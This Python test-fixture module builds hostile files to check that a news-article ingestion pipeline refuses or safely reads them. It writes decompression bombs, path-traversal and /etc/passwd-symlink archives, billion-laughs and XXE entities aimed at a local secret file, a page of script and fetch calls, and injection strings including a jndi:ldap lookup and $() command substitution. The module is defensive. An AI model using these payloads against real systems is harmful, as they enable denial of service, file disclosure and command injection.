# ruff: noqa: E501 - lines of files are as long as they are
"""Files made to hurt whoever reads them: bombs, loops, lies, and things that want to be run or fetched.

`write_hostile(folder, ...)` writes them all; `READ` and `REFUSED` say what becomes of them. Not for: files that are merely
broken; see `corpus_of_slips`.
"""

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Final

ARTICLE: Final = (
    "Die Ministerin Karla Beispiel sagte am Montag, sie werde im März zurücktreten. „Wir gehen“, sagte sie.\n\n"
    "Der Sprecher Bert Muster bestritt dies am Abend vor der Presse in Silbersund.\n"
)
DEEP: Final = 10_000
LAUGHS: Final = (
    '<!DOCTYPE {0} [<!ENTITY a "Ha Ha Ha Ha Ha Ha Ha Ha Ha Ha ">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
SECRET: Final = "streng-geheimes-wort"
OUTSIDE: Final = '<!DOCTYPE {0} [<!ENTITY i SYSTEM "{1}"><!ENTITY % p SYSTEM "{1}"> %p;]>'

READ: Final = (
    "tief.html", "tief.md", "skripte.html", "klettert.zip/gut.txt", "verweise.tar/gut.txt", "bombe.zip/gut.txt",
    "viele.zip/gut.txt", "gleiche.eml", "koepfe.eml", "lachen.html", "aussen.html", "heim.html", "aussen.rss#1",
    "aussen.atom#1", "aussen.docx", "aussen.odt", "a/zu_b/gut.txt",
)  # fmt: skip
"""Reports inside of traps: read, and the trap is not sprung."""

REFUSED: Final[dict[str, str]] = {
    "klettert.zip/../../raus.txt": "leads out", "klettert.zip//etc/raus.txt": "leads out",
    "verweise.tar/../raus.txt": "leads out", "verweise.tar/link": "link", "verweise.tar/geraet": "link",
    "verschlossen.zip/a.txt": "encrypted", "verschlossen.pdf": "locked with a password",
    "bombe.zip/eins.txt": "expands|characters|bytes", "bombe.txt.gz/bombe.txt": "expands|characters|bytes",
    "bombe.tar.xz/a.txt": "expands|characters|bytes", "bombe.bz2/bombe": "expands|characters|bytes",
    "bombe.warc.gz": "does not end", "nest.zip/0.zip/0.zip/0.zip": "packed in 3 other archives",
    "luegt.tar": "damaged", "ueberlappt.zip": "table of contents is too long",
    "halb.pdf": "cut off", "halb.zip": "cannot be read", "halb.docx": "cut off", "halb.tar.gz": "damaged",
    "schleife.eml": "nested too deep", "matroschka.eml": "nested too deep", "tief.docx": "not well-formed",
    "tief.newsml": "not well-formed", "tief.json3": "not JSON", "tief.ninjs": "not JSON",
    "lachen.docx": "amplification", "lachen.odt": "amplification", "lachen.newsml": "not well-formed",
    "aussen.newsml": "not well-formed", "eins.txt": "symbolic links", "zwei.txt": "symbolic links",
}  # fmt: skip
"""What holds no report that can be had, each with words of the reason."""

LINES: Final[dict[str, bytes]] = {
    "zeile.txt": b"", "zeile.html": b"<html><body><p>", "zeile.jsonl": b'{"text": "', "zeile.csv": b'text\n"',
    "zeile.mbox": b"From a@b Sat May  3 08:00:00 2031\nSubject: x\n\n", "zeile.eml": b"Subject: x\nFrom: a\nTo: b\n\n",
    "zeile.srt": b"1\n00:00:00,000 --> 00:00:02,000\n", "zeile.rss": b"<rss><channel><item><title>",
    "zeile.warc": b"WARC/1.0\r\nX: ", "zeile.ninjs": b'{"uri": "1", "body_text": "', "zeile.md": b"# ",
}  # fmt: skip
"""Files of one long line, and how each begins."""


def write_hostile(folder: Path, megabytes: int, home: str) -> None:
    """Writes everything; `megabytes` is the size of lines and bombs, `home` an address not to be asked."""
    folder.mkdir()
    secret = folder.parent / "geheim.txt"
    secret.write_text(SECRET, encoding="utf-8")
    for name, raw in (
        *make_archives(megabytes),
        *_halves(),
        *_deep(),
        *_laughs(secret.as_uri(), home),
        *_mails(),
    ):
        (folder / name).write_bytes(raw)
    (folder / "skripte.html").write_text(_scripts(home, secret.as_uri()), encoding="utf-8")
    _write_links(folder)
    for name in LINES:
        write_long_line(folder / name, megabytes)


def write_long_line(path: Path, megabytes: int) -> None:
    """One line of so many megabytes, in a file of one of the names of `LINES`."""
    piece = ("Anna Beispiel sagte, alles sei gut. " * 30_000).encode()[: 1 << 20]
    with path.open("wb") as file:
        file.write(LINES[path.name])
        for _ in range(megabytes):
            file.write(piece)


def write_empties(folder: Path, count: int) -> None:
    """So many files without a byte, a thousand a folder."""
    for number in range(count):
        if number % 1000 == 0:
            (folder / f"{number // 1000}").mkdir(parents=True)
        (folder / f"{number // 1000}" / f"{number}.txt").touch()


def _zip(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _tar(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for info, content in members:
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _info(name: str, kind: bytes = tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


def make_archives(megabytes: int) -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each archive; what bombs expand to is so many megabytes."""
    zeros = b"a" * (megabytes << 20)
    yield (
        "bombe.zip",
        _zip({"gut.txt": ARTICLE + "1", "eins.txt": zeros, "zwei.txt": zeros, "spaet.txt": ARTICLE}),
    )
    nested = _zip({f"{n}.txt": zeros for n in range(4)})
    for _ in range(4):
        nested = _zip({f"{n}.zip": nested for n in range(4)})
    yield "nest.zip", nested
    yield "bombe.txt.gz", gzip.compress(zeros)
    yield "bombe.bz2", bz2.compress(zeros)
    yield "bombe.tar.xz", lzma.compress(_tar([(_info("a.txt"), zeros)]))
    yield "bombe.warc.gz", gzip.compress(b"WARC/1.0\r\nX: " + zeros)
    yield (
        "klettert.zip",
        _zip({"../../raus.txt": ARTICLE, "/etc/raus.txt": ARTICLE, "gut.txt": ARTICLE + "2"}),
    )
    links = [
        (_info("link", tarfile.SYMTYPE, "/etc/passwd"), b""), (_info("geraet", tarfile.CHRTYPE), b""),
        (_info("../raus.txt"), ARTICLE.encode()), (_info("gut.txt"), (ARTICLE + "3").encode()),
    ]  # fmt: skip
    yield "verweise.tar", _tar(links)
    locked = bytearray(_zip({"a.txt": ARTICLE}))
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    yield "verschlossen.zip", bytes(locked)
    lies = bytearray(_zip({"a.txt": ARTICLE}))
    at = lies.index(b"PK\x01\x02")
    lies[at + 24 : at + 28] = (1 << 30).to_bytes(4, "little")
    yield "luegt.zip", bytes(lies)
    heading = _info("x", b"x")
    heading.size = 1 << 33
    yield "luegt.tar", heading.tobuf(tarfile.GNU_FORMAT) + b"9" * 1024
    yield "viele.zip", _zip({"gut.txt": ARTICLE + "4", **{f"{n}.txt": "" for n in range(300)}})
    table = bytearray(_zip({"a.txt": ARTICLE}))
    table[-10:-6] = (1 << 31).to_bytes(4, "little")
    yield "ueberlappt.zip", bytes(table)


def _halves() -> Iterator[tuple[str, bytes]]:
    pdf = _pdf("Die Ministerin Karla Beispiel kam.")
    yield "halb.pdf", pdf[: len(pdf) // 2]
    locked = b"/Encrypt<</Filter/Standard/V 1/R 2/O(%b)/U(%b)/P -4>>/ID[(a)(a)]" % (b"x" * 32, b"y" * 32)
    yield "verschlossen.pdf", pdf.replace(b"trailer<<", b"trailer<<" + locked)
    word = _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document>" + ARTICLE * 40})
    yield "halb.docx", word[: len(word) // 2]
    packed = _zip({"a.txt": ARTICLE * 40})
    yield "halb.zip", packed[: len(packed) // 2]
    whole = gzip.compress(_tar([(_info("a.txt"), ARTICLE.encode() * 40)]), mtime=0)
    yield "halb.tar.gz", whole[: len(whole) // 2]


def _pdf(words: str) -> bytes:
    shown = f"BT /F1 12 Tf 20 200 Td ({words}) Tj ET".encode("cp1252")
    return (
        b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
        b"endobj\n4 0 obj<</Length %d>>stream\n%b\nendstream endobj\n5 0 obj<</Type/Font/Subtype/Type1"
        b"/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF\n" % (len(shown), shown)
    )


def _deep() -> Iterator[tuple[str, bytes]]:
    body = f"<p>{ARTICLE}</p>"
    yield "tief.html", f"<html lang=de><body>{'<div>' * DEEP}{body}{'</div>' * DEEP}</body></html>".encode()
    nested = f"{'<a>' * DEEP}{ARTICLE}{'</a>' * DEEP}"
    yield (
        "tief.rss",
        f"<rss><channel><item><title>Tief</title><x>{nested}</x></item></channel></rss>".encode(),
    )
    yield "tief.newsml", f'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">{nested}</newsItem>'.encode()
    yield "tief.ninjs", b'{"uri": "1", "body_text": ' + b"[" * DEEP + b"]" * DEEP + b"}"
    yield "tief.json3", b'{"events": ' + b"[" * DEEP + b"]" * DEEP + b"}"
    yield "tief.md", (">" * DEEP + " " + ARTICLE + "- " * DEEP + "x\n" + "[" * DEEP + "](x)\n").encode()
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    deep = f"<w:document {space}><w:body>{'<w:p>' * DEEP}<w:t>{ARTICLE}</w:t>{'</w:p>' * DEEP}</w:body></w:document>"
    yield "tief.docx", _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": deep})


def _laughs(secret: str, home: str) -> Iterator[tuple[str, bytes]]:
    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    for what, head in {"lachen": LAUGHS, "aussen": OUTSIDE, "heim": OUTSIDE}.items():
        target = secret if what == "aussen" else f"{home}/{what}"

        def opened(root: str, head: str = head, target: str = target) -> str:
            return f'<?xml version="1.0"?>{head.format(root, target)}'

        item = f"<item><title>Da &i;</title><description>{ARTICLE} &i;</description></item>"
        yield f"{what}.rss", f'{opened("rss")}<rss version="2.0"><channel>{item}</channel></rss>'.encode()
        entry = f"<entry><title>Da &i;</title><id>1</id><content>{ARTICLE} &i;</content></entry>"
        atom = f'{opened("feed")}<feed xmlns="http://www.w3.org/2005/Atom">{entry}</feed>'
        yield f"{what}.atom", atom.encode()
        inner = (
            f"<contentSet><inlineXML><html><body><p>{ARTICLE} &i;</p></body></html></inlineXML></contentSet>"
        )
        news = f'{opened("newsItem")}<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">{inner}</newsItem>'
        yield f"{what}.newsml", news.encode()
        page = f"{opened('html')}<html lang='de'><body><p>{ARTICLE} &i;</p></body></html>"
        yield f"{what}.html", page.encode()
        text = (
            f"{opened('w:document')}<w:document {word}><w:body><w:p><w:r><w:t>{ARTICLE} &i;</w:t></w:r></w:p>"
        )
        document = f"{text}</w:body></w:document>"
        yield f"{what}.docx", _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": document})
        office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
        odt = (
            f'{opened("office:document-content")}<office:document-content xmlns:office="{office}" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
            f"<text:p>{ARTICLE} &i;</text:p></office:text></office:body></office:document-content>"
        )
        yield f"{what}.odt", _zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": odt})


def _mails() -> Iterator[tuple[str, bytes]]:
    head = "From: a@b.example\nTo: c@d.example\nSubject: Schleife\nMIME-Version: 1.0\n"
    loop = "".join(f'Content-Type: multipart/mixed; boundary="x{n}"\n\n--x{n}\n' for n in range(2000))
    yield "schleife.eml", f"{head}{loop}Content-Type: text/plain; charset=utf-8\n\n{ARTICLE}".encode()
    same = 'Content-Type: multipart/mixed; boundary="x"\n\n--x\n' * 3000
    yield "gleiche.eml", f"{head}{same}{ARTICLE}".encode()
    mail = "Content-Type: message/rfc822\n\n" * 3000
    yield "matroschka.eml", f"{head}{mail}{head}\n{ARTICLE}".encode()
    parts = "--x\nContent-Type: text/plain\n\nTeil\n" * 20_000
    yield "teile.eml", f'{head}Content-Type: multipart/mixed; boundary="x"\n\n{parts}--x--\n'.encode()
    headers = "".join(f"X-Kopf-{n}: {'=?utf-8?q?a?= ' * 50}\n" for n in range(3000))
    yield "koepfe.eml", f"{head}{headers}\n{ARTICLE}".encode()


def _scripts(home: str, secret: str) -> str:
    """A page that wants a great deal done: none of it is."""
    return (
        f"<html lang='de'><head><meta http-equiv='refresh' content='0; url={home}/refresh'><base href='{home}/'>"
        f"<link rel='stylesheet' href='{home}/style'><link rel='canonical' href='{home}/canonical'>"
        f"<script src='{home}/script'></script><script>fetch('{home}/fetch'); require('fs')</script>"
        f"<style>@import url({home}/import);</style></head><body onload=\"fetch('{home}/onload')\">"
        f"<p>{ARTICLE}</p><img src='{home}/image' onerror='x()'><iframe src='{secret}'></iframe>"
        f"<object data='{home}/object'></object><svg><image href='{home}/svg'/></svg><video src='{home}/v'></video>"
        f"<a href='javascript:x()'>los</a><form action='{home}/form'><input autofocus onfocus='x()'></form>"
        "{{ 7 * 7 }} {% raise x %} ${jndi:ldap://x.example/a} `touch raus.txt` $(touch raus.txt)</body></html>"
    )


def _write_links(folder: Path) -> None:
    """Folders and files that lead to each other in circles, and out of the pile."""
    (folder / "a").mkdir()
    (folder / "b").mkdir()
    (folder / "a" / "zu_b").symlink_to(folder / "b", target_is_directory=True)
    (folder / "b" / "zu_a").symlink_to(folder / "a", target_is_directory=True)
    (folder / "a" / "hoch").symlink_to(folder, target_is_directory=True)
    (folder / "eins.txt").symlink_to("zwei.txt")
    (folder / "zwei.txt").symlink_to("eins.txt")
    (folder / "b" / "gut.txt").write_text(ARTICLE + "5", encoding="utf-8")
